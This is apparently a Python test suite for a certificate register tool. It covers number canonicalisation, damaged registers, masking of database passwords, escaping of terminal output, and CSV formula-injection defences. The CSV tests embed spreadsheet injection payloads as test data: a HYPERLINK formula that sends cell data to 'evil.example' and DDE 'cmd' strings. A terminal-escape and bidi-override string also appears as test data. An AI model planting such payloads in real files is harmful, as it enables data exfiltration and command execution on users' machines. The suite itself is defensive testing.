"""The register against a careless operator and a damaged file: one canonical form of a number,
a register that checks itself, formula-free CSV, masked secrets, escaped terminal output."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from test_batch import HEADER, holders_file

import certgen
from certgen.batch import render_batch
from certgen.errors import ValidationError
from certgen.model.identifiers import canonical_number
from certgen.register import Register, RegisterError, mask_url
from conftest import ROOT, SAMPLE_SPEC, certgen_command, create_database

#: PB-000005 spelt as an operator may type or paste it: each prints as the same number.
SPELLINGS = [
    "PB-000005",
    "PB\u00a0000005",
    "PB-\u200b000005",
    "PB 000005",
    "PB-5",
    "pb-000005",
    "PB  000005",
    "ＰＢ－０００００５",
]


#: The PostgreSQL register needs the session's server (started once, a few seconds): slow.
@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.slow)])
def shared_register(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """A register shared by several batches: an SQLite file, or a PostgreSQL database."""
    if request.param == "sqlite":
        return str(tmp_path / "register.sqlite")
    return str(request.getfixturevalue("postgres_url"))


def _numbered(folder: Path, name: str, *numbers: str) -> Path:
    path = folder / name
    rows = [f'{n},"HOLDER {i} & CO.",{100 * (i + 1)},2026-11-23' for i, n in enumerate(numbers)]
    path.write_text("certificate_number," + HEADER + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def _certificates(out: Path) -> list[Path]:
    return sorted(out.glob("certificates-*.pdf")) if out.exists() else []


# -- one canonical form ------------------------------------------------------------------


def test_every_spelling_of_a_number_has_one_canonical_form() -> None:
    assert {canonical_number(s) for s in SPELLINGS} == {"pb5"}
    # Other numbers stay other numbers: digit runs apart, another value, another prefix.
    assert (
        len(
            {canonical_number(s) for s in ("PB-000005", "PB-000050", "PB-000006", "PX-000005", "R1-5", "R15")}
        )
        == 6
    )
    assert canonical_number("R1-000005") == canonical_number("r1 5")


def test_spellings_of_one_number_in_one_holder_file_are_refused(
    tmp_path: Path, shared_register: str, run_cli: Any
) -> None:
    holders = _numbered(tmp_path, "holders.csv", *SPELLINGS)
    out = tmp_path / "out"
    result = run_cli(
        "batch",
        SAMPLE_SPEC,
        "--holders",
        holders,
        "--out",
        out,
        "--register",
        shared_register,
        "--workers",
        "1",
    )
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    duplicates = [line for line in lines if "used twice" in line]
    assert len(duplicates) == len(SPELLINGS) - 1  # every spelling after the first
    assert (
        "'PB-5' is used twice (first at " in result.stderr
        and "spelt 'PB-000005': the same number" in result.stderr
    )
    # The zero-width space and the full-width letters are refused on their own account as well.
    others = sorted(line.rsplit("[", 1)[1] for line in lines if "used twice" not in line and "[" in line)
    assert others == ["fields.printable]", "holder.characters]"]
    assert lines[-1] == f"certgen: error: {len(SPELLINGS) + 1} errors: nothing printed"
    assert _certificates(out) == []
    with Register(shared_register) as reg:
        assert list(reg.records()) == []
    # certgen validate says the same, with the same rules.
    report = certgen.validate(SAMPLE_SPEC, holders)
    assert sorted(f.rule for f in report.errors) == sorted(
        ["certificate.duplicate-number"] * (len(SPELLINGS) - 1) + ["fields.printable", "holder.characters"]
    )


@pytest.mark.parametrize("spelling", SPELLINGS[1:])
def test_a_spelling_of_a_number_in_the_register_is_refused_in_a_later_batch(
    tmp_path: Path, shared_register: str, spelling: str
) -> None:
    render_batch(
        SAMPLE_SPEC,
        _numbered(tmp_path, "first.csv", "PB-000004", "PB-000005"),
        tmp_path / "one",
        register=shared_register,
        workers=1,
    )
    later = _numbered(tmp_path, "later.csv", "PB-000010", spelling)
    if spelling in ("PB-\u200b000005", "ＰＢ－０００００５"):
        # Refused before the register is asked: an invisible character; letters no font prints.
        rule = "holder.characters" if "\u200b" in spelling else "fields.printable"
        with pytest.raises(ValidationError, match=rf"later.csv, row 3 .*\[{rule}\]"):
            render_batch(SAMPLE_SPEC, later, tmp_path / "two", register=shared_register, workers=1)
        with Register(shared_register) as reg:
            assert [r.number for r in reg.records()] == ["PB-000004", "PB-000005"]
        return
    # The spelling as given (runs of spaces of any kind are one space), quoted with unusual
    # spaces and invisible characters escaped.
    shown = {"PB\u00a0000005": "PB 000005", "PB  000005": "PB 000005"}.get(spelling, spelling)
    with pytest.raises(
        RegisterError,
        match=r"1 certificate number is already in the register: (.+) \(in the register as PB-000005, issued, .*later.csv, row 3\)",
    ) as info:
        render_batch(SAMPLE_SPEC, later, tmp_path / "two", register=shared_register, workers=1)
    assert shown in str(info.value)
    assert _certificates(tmp_path / "two") == []
    with Register(shared_register) as reg:
        assert [r.number for r in reg.records()] == ["PB-000004", "PB-000005"]


def test_the_database_refuses_a_second_spelling_and_the_sequence_moves_past_every_spelling(
    tmp_path: Path, shared_register: str
) -> None:
    render_batch(
        SAMPLE_SPEC,
        _numbered(tmp_path, "first.csv", "pb 7"),
        tmp_path / "one",
        register=shared_register,
        workers=1,
    )
    with Register(shared_register) as reg:
        # Past the batch's check: the unique index refuses it.
        with (
            pytest.raises(RegisterError, match="would use a certificate number twice"),
            reg.transaction() as conn,
        ):
            reg._reserve(conn, 1, 1, [("PB-000007", "X", 1, "f.pdf", 1)])
        assert reg.change("void", ["PB-000007"], note="by another spelling") == 1
        assert [(r.number, r.state) for r in reg.records()] == [("pb 7", "voided")]
    allocated = render_batch(
        SAMPLE_SPEC, holders_file(tmp_path, 1), tmp_path / "two", register=shared_register, workers=1
    )
    assert allocated.first_number == "PB-000008"  # "pb 7" is number 7 of the sequence


def test_an_older_register_gets_the_canonical_column_or_is_refused_naming_both_spellings(
    tmp_path: Path, shared_register: str
) -> None:
    render_batch(
        SAMPLE_SPEC,
        _numbered(tmp_path, "first.csv", "PB-000001", "PB-000002"),
        tmp_path / "one",
        register=shared_register,
        workers=1,
    )
    with Register(shared_register) as reg, reg.engine.connect() as conn:
        assert Register._schema_ready(conn)  # an up-to-date register is opened without the schema lock
    url = shared_register if "://" in shared_register else f"sqlite:///{shared_register}"
    engine = sa.create_engine(url)

    def make_old(extra: str | None) -> None:
        with engine.begin() as conn:  # as a register made before the canonical form
            conn.execute(sa.text("DROP INDEX uq_certificate_number_key"))
            conn.execute(sa.text("ALTER TABLE certificates DROP COLUMN number_key"))
            if extra:
                conn.execute(
                    sa.text(
                        "INSERT INTO certificates (security_id, number, state, registration, amount, created_at, updated_at) "
                        "VALUES (1, :n, 'voided', 'X', 1, '2026-01-01', '2026-01-01')"
                    ),
                    {"n": extra},
                )

    make_old(None)
    with Register(shared_register) as reg:  # migrated on opening
        assert reg.check().endswith("each number once, sequences past every number)")
    with pytest.raises(RegisterError, match=r"in the register as PB-000002"):
        render_batch(
            SAMPLE_SPEC,
            _numbered(tmp_path, "again.csv", "pb 2"),
            tmp_path / "two",
            register=shared_register,
            workers=1,
        )
    make_old("pb-2")  # an older certgen let the same number in twice
    with pytest.raises(
        RegisterError,
        match=r"holds numbers that are one number spelt two ways \('PB-000002' and 'pb-2' of 885218305\)",
    ) as info:
        Register(shared_register)
    assert "\n" not in str(info.value)
    with engine.connect() as conn:  # refused: left as it was
        assert "number_key" not in {c["name"] for c in sa.inspect(conn).get_columns("certificates")}
    engine.dispose()


def test_a_register_keyed_before_look_alike_letters_is_keyed_again(
    tmp_path: Path, shared_register: str
) -> None:
    """A register whose keys were made before Greek and Cyrillic look-alikes read as Latin (form
    1) holds 'РВ-000002' (Cyrillic) under a key of its own.  Opened, it is keyed again: the Latin
    'PB-000002' is then refused as the number it already holds; and one that holds both spellings
    is refused naming them, left as it was."""
    from certgen.register import NUMBER_FORM

    render_batch(
        SAMPLE_SPEC,
        _numbered(tmp_path, "first.csv", "PB-000001"),
        tmp_path / "one",
        register=shared_register,
        workers=1,
    )
    url = shared_register if "://" in shared_register else f"sqlite:///{shared_register}"
    engine = sa.create_engine(url)

    def make_old(number: str, old_key: str) -> None:
        with engine.begin() as conn:  # as an older certgen recorded it
            conn.execute(sa.text("UPDATE register_info SET value = '1' WHERE name = 'number_form'"))
            conn.execute(sa.text("UPDATE securities SET next_number = 10"))  # past the number added
            conn.execute(
                sa.text(
                    "INSERT INTO certificates (security_id, number, number_key, state, registration, amount, "
                    "created_at, updated_at) VALUES (1, :n, :k, 'voided', 'X', 1, '2026-01-01', '2026-01-01')"
                ),
                {"n": number, "k": old_key},
            )

    make_old("\u0420\u0412-000002", "\u0440\u04322")  # РВ-000002, keyed рв2
    with Register(shared_register) as reg:  # keyed again on opening
        assert reg.check().endswith("each number once, sequences past every number)")
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT value FROM register_info")).scalar_one() == NUMBER_FORM
        key = conn.execute(sa.text("SELECT number_key FROM certificates WHERE number LIKE '%2'")).scalar_one()
        assert key == canonical_number("PB-000002")
    with pytest.raises(RegisterError, match="PB-000002 \\(in the register as '\u0420\u0412-000002'"):
        render_batch(
            SAMPLE_SPEC,
            _numbered(tmp_path, "again.csv", "PB-000002"),
            tmp_path / "two",
            register=shared_register,
            workers=1,
        )
    make_old("\u0420\u0412-000001", "\u0440\u04321")  # РВ-000001 beside the Latin PB-000001
    with pytest.raises(RegisterError, match="holds numbers that are one number spelt two ways") as info:
        Register(shared_register)
    assert "'PB-000001' and '\u0420\u0412-000001'" in str(info.value)
    with engine.connect() as conn:  # refused: left as it was
        assert conn.execute(sa.text("SELECT value FROM register_info")).scalar_one() == "1"
    engine.dispose()


# -- a damaged register -----------------------------------------------------------------


def _overwrite_page(path: Path, table: str, data: bytes | None) -> None:
    """Overwrite the root page of an index or table of an SQLite file (garbage, or *data*)."""
    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        page_size = conn.execute("PRAGMA page_size").fetchone()[0]
        page = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()[0]
    conn.close()
    with path.open("r+b") as stream:
        stream.seek((page - 1) * page_size)
        stream.write(
            data[:page_size].ljust(page_size, b"\0")
            if data is not None
            else bytes(range(256)) * (page_size // 256)
        )


@pytest.mark.parametrize("damage", ["garbage", "empty index page"])
def test_a_damaged_register_is_refused_by_the_batch_and_register_commands(
    tmp_path: Path, run_cli: Any, damage: str
) -> None:
    register = tmp_path / "register.sqlite"
    render_batch(SAMPLE_SPEC, holders_file(tmp_path, 30), tmp_path / "one", register=register, workers=1)
    checked = run_cli("register", "check", "--register", register)
    assert (
        checked.exit_code == 0
        and "ok (SQLite integrity_check ok, 1 security, 30 certificates" in checked.stdout
    )
    # The index of the securities' keys: garbage, or a well-formed page that holds no key.
    _overwrite_page(
        register,
        "sqlite_autoindex_securities_1",
        None if damage == "garbage" else bytes([0x0A, 0, 0, 0, 0, 0x10, 0, 0]),
    )
    more = holders_file(tmp_path, 5, name="more.csv", start=40)
    out = tmp_path / "two"
    batch = run_cli(
        "batch", SAMPLE_SPEC, "--holders", more, "--out", out, "--register", register, "--workers", "1"
    )
    assert batch.exit_code == 1 and "Traceback" not in batch.stderr
    assert (
        len(batch.stderr.strip().splitlines()) == 1
        and "is damaged" in batch.stderr
        and "restore it from a backup" in batch.stderr
    )
    assert _certificates(out) == [] and not (out / "manifest.json").exists()
    for command in (("list",), ("export", "--format", "csv"), ("check",)):
        result = run_cli("register", *command, "--register", register)
        assert result.exit_code == 1 and result.stdout == "", command
        assert len(result.stderr.strip().splitlines()) == 1 and "is damaged" in result.stderr, command
    with sqlite3.connect(register) as conn:  # no second row for the security, no number given again
        assert conn.execute("SELECT count(*) FROM securities NOT INDEXED").fetchone()[0] == 1
        assert conn.execute("SELECT count(*) FROM certificates NOT INDEXED").fetchone()[0] == 30
    conn.close()


def test_register_check_finds_a_sequence_behind_its_numbers(
    tmp_path: Path, shared_register: str, run_cli: Any
) -> None:
    render_batch(
        SAMPLE_SPEC, holders_file(tmp_path, 3), tmp_path / "one", register=shared_register, workers=1
    )
    assert run_cli("register", "check", "--register", shared_register).exit_code == 0
    url = shared_register if "://" in shared_register else f"sqlite:///{shared_register}"
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE securities SET next_number = 2"))
    engine.dispose()
    result = run_cli("register", "check", "--register", shared_register)
    assert result.exit_code == 1 and result.stdout == ""
    assert result.stderr.strip().endswith(
        "is inconsistent: the sequence of 885218305 would next allocate PB-000002, but the register holds numbers up to PB-000003"
    )


# -- CSV that a spreadsheet opens --------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]


def test_formulas_in_the_data_are_refused_and_what_may_begin_with_a_sign_is_text_in_control_csv_and_export(
    tmp_path: Path, spec_data: dict[str, Any], write_spec: Any, run_cli: Any
) -> None:
    spec_data["security"]["certificate_prefix"] = ""  # numbers as the holder file gives them
    spec = write_spec(spec_data)
    # A formula in the holder data is refused before anything is printed or registered.
    numbers = ["=1+2", "+3+4", "@5", "-6"]
    rows = [
        f'"{n}","{f.replace(chr(34), chr(34) * 2)}",100,2026-11-23'
        for n, f in zip(numbers, FORMULAS, strict=False)
    ]
    holders = tmp_path / "holders.csv"
    holders.write_text("certificate_number," + HEADER + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli("batch", spec, "--holders", holders, "--out", out, "--workers", "1")
    assert result.exit_code == 1
    assert sum("[holder.formula]" in line for line in result.stderr.splitlines()) == 7  # not the number -6
    assert not (out / "control.csv").exists()
    with Register(out / "register.sqlite") as reg:
        assert list(reg.records()) == []
    # A number may begin with a minus sign; a note typed at the register may be anything: in
    # control.csv and the CSV export both are text for a spreadsheet, in JSON as they are.
    numbers = ["-6", "-7"]
    holders.write_text(
        "certificate_number," + HEADER + "".join(f'"{n}",Jane Doe,100,2026-11-23\n' for n in numbers),
        encoding="utf-8",
    )
    result = run_cli("batch", spec, "--holders", holders, "--out", out, "--workers", "1")
    assert result.exit_code == 0, result.stderr
    register = out / "register.sqlite"
    assert (
        run_cli("register", "void", "--register", register, "--note", '=HYPERLINK("x")', "--", "-7").exit_code
        == 0
    )
    control = dict(csv.reader(io.StringIO((out / "control.csv").read_text(encoding="utf-8"))))
    assert (control["first number"], control["last number"]) == ("'-6", "'-7")
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert [c["number"] for c in manifest["certificates"]] == numbers  # JSON: as they are
    exported = list(csv.DictReader(io.StringIO(run_cli("register", "export", "--register", register).stdout)))
    assert [r["number"] for r in exported] == ["'" + n for n in numbers]
    assert exported[-1]["note"] == '\'=HYPERLINK("x")'
    assert not any(cell[:1] in "=+-@\t\r" for row in exported for cell in row.values() if cell)
    as_json = json.loads(run_cli("register", "export", "--register", register, "--format", "json").stdout)
    assert [r["number"] for r in as_json] == numbers and as_json[-1]["note"] == '=HYPERLINK("x")'


# -- two processes on a new register -------------------------------------------------------


def _batch_process(holders: Path, out: Path, register: str) -> subprocess.Popen[str]:
    command = certgen_command(
        "batch",
        SAMPLE_SPEC,
        "--holders",
        holders,
        "--out",
        out,
        "--register",
        register,
        "--workers",
        "1",
        "--json",
    )
    return subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


@pytest.mark.slow
@pytest.mark.parametrize("dialect", ["sqlite", "postgresql"])
def test_two_batches_starting_at_once_on_a_new_register_both_print(
    tmp_path: Path, request: pytest.FixtureRequest, dialect: str
) -> None:
    for trial in range(3):
        if dialect == "sqlite":
            register = str(tmp_path / f"register-{trial}.sqlite")
        else:
            register = create_database(request.getfixturevalue("postgres_server"))
        runs = [
            _batch_process(
                holders_file(tmp_path, 3, name=f"h{trial}{k}.csv", start=10 * k + 1),
                tmp_path / f"out{trial}{k}",
                register,
            )
            for k in (0, 1)
        ]
        results = [(run.wait(timeout=120), run.stdout.read(), run.stderr.read()) for run in runs]  # type: ignore[union-attr]
        for run in runs:
            run.stdout.close()  # type: ignore[union-attr]
            run.stderr.close()  # type: ignore[union-attr]
        assert [code for code, _, _ in results] == [0, 0], [err for _, _, err in results]
        firsts = sorted(json.loads(out)["first_number"] for _, out, _ in results)
        assert firsts == ["PB-000001", "PB-000004"]
        with Register(register) as reg:
            assert sorted(r.number for r in reg.records()) == [f"PB-00000{i}" for i in range(1, 7)]
            assert "1 security" in reg.check()


# -- secrets and the terminal -------------------------------------------------------------


def test_database_url_secrets_are_masked() -> None:
    assert (
        mask_url("postgresql+psycopg://clerk:s3cret@db.example/register")
        == "postgresql+psycopg://clerk:***@db.example/register"
    )
    assert (
        mask_url("postgresql+psycopg://clerk:p@ss:w@db.example/r")
        == "postgresql+psycopg://clerk:***@db.example/r"
    )
    masked = mask_url(
        "postgresql+psycopg:///r?host=/run/pg&password=s3cret&passfile=/home/c/.pgpass&sslpassword=k3y&p%61ssword=x1y&user=clerk"
    )
    assert (
        masked
        == "postgresql+psycopg:///r?host=/run/pg&password=***&passfile=***&sslpassword=***&p%61ssword=***&user=clerk"
    )
    assert mask_url("sqlite:////srv/registers/r.sqlite") == "sqlite:////srv/registers/r.sqlite"


def test_the_password_of_a_register_url_is_in_no_message_summary_or_file(
    tmp_path: Path, postgres_url: str, run_cli: Any
) -> None:
    url = f"{postgres_url}&password=hunter2secret"  # the test server trusts every password
    out = tmp_path / "out"
    done = run_cli(
        "batch",
        SAMPLE_SPEC,
        "--holders",
        holders_file(tmp_path, 2),
        "--out",
        out,
        "--register",
        url,
        "--workers",
        "1",
        "--json",
    )
    assert done.exit_code == 0, done.stderr
    assert json.loads(done.stdout)["register"].endswith("&password=***")
    assert all(b"hunter2secret" not in p.read_bytes() for p in out.iterdir())
    for bad in (
        url.replace("postgresql+psycopg", "postgresql+nodriver"),
        url.replace("/t_", "/missing_"),
        "postgresql+psycopg://clerk:hunter2secret@[::1/x",
    ):
        refused = run_cli("register", "list", "--register", bad)
        assert refused.exit_code == 1 and "Traceback" not in refused.stderr
        assert "hunter2secret" not in refused.stderr and "***" in refused.stderr, refused.stderr


def test_register_list_escapes_control_and_invisible_characters(tmp_path: Path, run_cli: Any) -> None:
    register = tmp_path / "register.sqlite"
    render_batch(SAMPLE_SPEC, holders_file(tmp_path, 1), tmp_path / "one", register=register, workers=1)
    hostile = "JOHN DOE\u202eOC & HTIMS\x1b[2J\x9b31m\u200bX\tY"
    with sqlite3.connect(register) as conn:
        conn.execute("UPDATE certificates SET registration = ?", (hostile,))
    conn.close()
    listed = run_cli("register", "list", "--register", register)
    assert listed.exit_code == 0
    fields = listed.stdout.rstrip("\n").split("\t")
    assert len(fields) == 6
    assert fields[4] == "JOHN DOE\\u202eOC & HTIMS\\x1b[2J\\x9b31m\\u200bX\\x09Y"
    assert not any(
        ord(c) < 32 and c not in "\t\n" or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u200b" for c in listed.stdout
    )
    exported = json.loads(run_cli("register", "export", "--register", register, "--format", "json").stdout)
    assert exported[0]["registration"] == hostile  # the export keeps what the register holds


# -- a full disk ----------------------------------------------------------------------------


@pytest.mark.parametrize("error", ["sqlite", "oserror"])
def test_a_full_disk_when_the_register_commits_is_one_line(
    tmp_path: Path, run_cli: Any, monkeypatch: pytest.MonkeyPatch, error: str
) -> None:
    import errno

    from sqlalchemy.dialects.sqlite.pysqlite import SQLiteDialect_pysqlite

    commit = SQLiteDialect_pysqlite.do_commit

    def full(self: Any, dbapi_connection: Any) -> None:
        if dbapi_connection.total_changes <= 3:  # the schema, the security: written
            return commit(self, dbapi_connection)
        # The commit of the batch's numbers and files: the disk is full.
        if error == "sqlite":
            raise sqlite3.OperationalError("database or disk is full")
        raise OSError(errno.ENOSPC, "No space left on device")

    out = tmp_path / "out"
    out.mkdir()
    Register(out / "register.sqlite").close()  # the register exists
    monkeypatch.setattr(SQLiteDialect_pysqlite, "do_commit", full)
    result = run_cli(
        "batch", SAMPLE_SPEC, "--holders", holders_file(tmp_path, 2), "--out", out, "--workers", "1"
    )
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if not line.startswith("certgen: rendered")]
    assert (
        len(lines) == 1
        and "cannot write the register" in lines[0]
        and ("disk is full" in lines[0] or "No space left" in lines[0])
    )
    assert "nothing of this change was recorded" in lines[0]
    assert _certificates(out) == [] and not (out / "manifest.json").exists()
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
    monkeypatch.undo()
    with Register(out / "register.sqlite") as reg:
        assert list(reg.records()) == [] and reg.security_keys() == ["885218305"]


def test_a_register_path_is_a_path_not_a_url(tmp_path: Path, run_cli: Any) -> None:
    """A ? or a %41 in a folder's name is part of the register's path: read as a URL, dir?x/r.sqlite
    opened a file named dir, and p%41x/ was read as pAx/."""
    for folder in ("dir?x", "p%41x", "a#b"):
        (tmp_path / folder).mkdir()
        register = tmp_path / folder / "register.sqlite"
        result = run_cli(
            "batch", SAMPLE_SPEC, "--holders", holders_file(tmp_path, 2), "--out", tmp_path / f"out-{folder}",
            "--register", register, "--workers", "1",
        )  # fmt: skip
        assert result.exit_code == 0, result.stderr
        assert register.is_file(), folder
        with Register(register) as reg:
            assert [r.number for r in reg.records()] == ["PB-000001", "PB-000002"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["holders.csv"]  # no stray "dir"
    assert not (tmp_path / "pAx").exists()


@pytest.mark.parametrize("workers", [1, 2])
@pytest.mark.parametrize("value", ["'abc'", "0", "2.5"])
def test_a_sequence_that_is_not_a_whole_number_is_a_damaged_register(
    tmp_path: Path, run_cli: Any, value: str, workers: int
) -> None:
    """A hand-edited sequence (text, 0, a fraction): the batch is refused in one line, nothing
    printed, and register check names it; a fraction allocated numbers that broke the unique rule."""
    register = tmp_path / "register.sqlite"
    render_batch(SAMPLE_SPEC, holders_file(tmp_path, 2), tmp_path / "one", register=register, workers=1)
    with sqlite3.connect(register) as conn:
        conn.execute(f"UPDATE securities SET next_number = {value}")
    conn.close()
    out = tmp_path / "two"
    more = holders_file(tmp_path, 3, name="more.csv", start=10)
    batch = run_cli(
        "batch",
        SAMPLE_SPEC,
        "--holders",
        more,
        "--out",
        out,
        "--register",
        register,
        "--workers",
        str(workers),
    )
    assert batch.exit_code == 1 and "Traceback" not in batch.stderr
    assert (
        len(batch.stderr.strip().splitlines()) == 1
        and "is damaged: the sequence of security 1 holds" in batch.stderr
    )
    assert _certificates(out) == [] and not list(out.glob(".*.tmp"))
    checked = run_cli("register", "check", "--register", register)
    assert checked.exit_code == 1 and "not a whole number from 1" in checked.stderr + checked.stdout


def test_every_digit_of_every_script_has_a_canonical_form(tmp_path: Path, run_cli: Any) -> None:
    """A digit that is not a decimal digit (Tai Lue ᧚ is 1, a circled ① is 1) gives its value,
    as a reader reads it; no character of any script makes the canonical form fail (a numbered
    holder file with ᧚ in a number ended the batch in a ValueError traceback)."""

    for code in range(sys.maxunicode + 1):
        char = chr(code)
        if char.isalnum():
            canonical_number(f"PB {char}1")  # never raises
    assert canonical_number("PB \u19da") == canonical_number("PB 1") == "pb1"
    assert canonical_number("PB \u0663") == "pb3"  # Arabic-Indic, as before
    holders = tmp_path / "h.csv"
    holders.write_text(HEADER.replace("registration", "certificate_number,registration") +
                       "PB 1,JANE DOE,100,2026-11-23\nPB \u19da,JOHN DOE,100,2026-11-23\n", encoding="utf-8")  # fmt: skip
    result = run_cli("batch", SAMPLE_SPEC, "--holders", holders, "--out", tmp_path / "out", "--workers", "1")
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert (
        "h.csv, row 2, spelt 'PB 1': the same number)" in result.stderr and "is used twice" in result.stderr
    )
    assert _certificates(tmp_path / "out") == []
